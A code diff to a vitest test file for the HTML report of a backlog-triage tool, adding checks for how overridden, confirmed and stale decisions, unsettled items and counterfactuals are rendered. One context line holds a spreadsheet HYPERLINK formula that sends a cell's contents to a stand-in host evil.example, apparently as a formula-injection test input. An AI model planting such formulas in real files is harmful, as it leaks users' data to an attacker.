@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { assess } from '../../src/core/assess.js';
 import { applyDecision } from '../../src/core/decisions.js';
 import type { AssessedItem } from '../../src/core/types.js';
 import { MAX_EXPLAINED, htmlFormat } from '../../src/formats/html.js';
@@ -74,19 +75,52 @@ describe('html format', () => {
     expect(out).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Click for details&quot;)');
   });
 
-  it('shows a decision: who, why, stale, and what the tool recommended', async () => {
+  it('shows a decision: who, why, stale, confirmed or overridden, and what the tool recommended', async () => {
     const { out } = await report(['examples/backlog.csv'], (results) =>
       results.map((r) =>
         r.assessment.id === 'WI-12'
           ? { ...r, assessment: applyDecision(policy, r.assessment, { id: 'WI-12', route: 'union', rationale: 'One platform <now>', by: 'Jo' }, true) }
-          : r,
+          : r.assessment.id === 'WI-04'
+            ? { ...r, assessment: applyDecision(policy, r.assessment, { id: 'WI-04', route: 'council', by: 'Asha' }, false) }
+            : r,
       ),
     );
-    expect(out).toContain('<p class="notice"><b>1</b> item was decided by a person, overriding the tool\'s recommendation; <b>1</b> of those decisions is stale');
-    expect(out).toContain('<span class="badge">decided</span> <span class="badge stale">stale</span>\n<div class="decision">Jo: One platform &lt;now&gt;</div>');
-    expect(out).toContain('The tool recommended <span class="tag route-4">Needs review</span> (rule <code>challenge-weak-alignment</code>).');
+    expect(out).toContain(
+      '<p class="notice">Decided by a person: <b>1</b> overridden, <b>1</b> confirmed; <b>1</b> of those decisions is stale (the item changed after it was decided).</p>\n<p class="notice">1 not settled (marked ?): a missing fact could change the route; chase lead (1)</p>',
+    );
+    expect(out).toContain(
+      '<td class="text"><span class="badge">overridden</span> <span class="badge stale">stale</span>\n<div class="decision">Jo: One platform &lt;now&gt;</div>\n<div class="muted">The tool recommended <span class="tag route-4">Needs review</span> (rule <code>challenge-weak-alignment</code>): Needs review: transformational (85: spans organisations +30, new way of working +25) but alignment 18 is below 50</div></td>',
+    );
+    expect(out).toContain(
+      '<td class="text"><span class="badge">confirmed</span>\n<div class="decision">Asha: no rationale given</div>\n<div class="muted">The tool recommended <span class="tag route-1">Council</span> (rule <code>council-owns</code>): Council: business as usual (0: recurring −40, keeps things running −25); lead is council</div></td>',
+    );
     expect(out).toContain('<b>The Union</b>, decided by a person. Decided by Jo: One platform &lt;now&gt;. The tool recommended Needs review (rule challenge-weak-alignment). The item has changed since: the decision is stale.');
+    expect(out).toContain('<p class="decision"><b>Council</b>, decided by a person. Confirmed by Asha.</p>');
     expect(out).toContain('<h2 class="section-head" id="section-0-head">The Union <span class="muted">(8)</span></h2>');
+  });
+
+  it('leads each row with the reason, and marks and explains what is not settled', async () => {
+    const { out } = await report(['examples/backlog.csv']);
+    expect(out).toContain(
+      '<td>business as usual<abbr title="not settled: a missing fact could change the route">?</abbr></td>\n<td class="num">9</td>\n<td class="num">0</td>\n<td class="num">0.39</td>\n<td class="num">—</td>\n<td class="num">—</td>\n<td class="text">Business as usual so far (no signal of change known); no rule could place it: effort_weeks, organisations, recurring and lead are unknown<div class="muted">Not settled: chase lead.</div></td>',
+    );
+    expect(out).toContain(
+      '<p class="because"><b>Needs review: business as usual so far (no signal of change known); no rule could place it: effort_weeks, organisations, recurring and lead are unknown</b></p>\n<p class="muted">Not settled: alignment could be 9-64 and transformation 0-75 once the missing facts are known; chase lead.</p>',
+    );
+    expect(out).toContain('<td class="text">Transformational (100: spans organisations +30, new way of working +25) and alignment 69 is at least 50</td>');
+    expect(count(out, '<abbr title="not settled')).toBe(1);
+    expect(out).not.toContain('Decided by a person');
+  });
+
+  it('lists what would change the route in each explanation, when assessed with counterfactuals', async () => {
+    const { out } = await report(['examples/backlog.csv'], (results) =>
+      results.map((r) => ({ ...r, assessment: assess(policy, r.item, { counterfactuals: true }) })),
+    );
+    const wi15 = out.slice(out.indexOf('<details id="item-15"'), out.indexOf('</details>', out.indexOf('<details id="item-15"')));
+    expect(wi15).toContain(
+      '<p><b>What would change it</b></p>\n<ul class="what-if"><li>Council if lead were council</li><li>CCG if lead were ccg</li><li>The Union if description mentioned &quot;data&quot; and &quot;pilot&quot;; organisations were council, ccg, acute-trust; citizen_impact were 4 (alignment 9 → 50, transformation 0 → 70)</li><li>Individual if organisations were acute-trust; effort_weeks were 2; recurring were false (alignment 9 → 14)</li></ul>',
+    );
+    expect(count(out, '<ul class="what-if">')).toBe(22);
   });
 
   it('explains at most MAX_EXPLAINED items, links only those, and says how to see the rest', async () => {
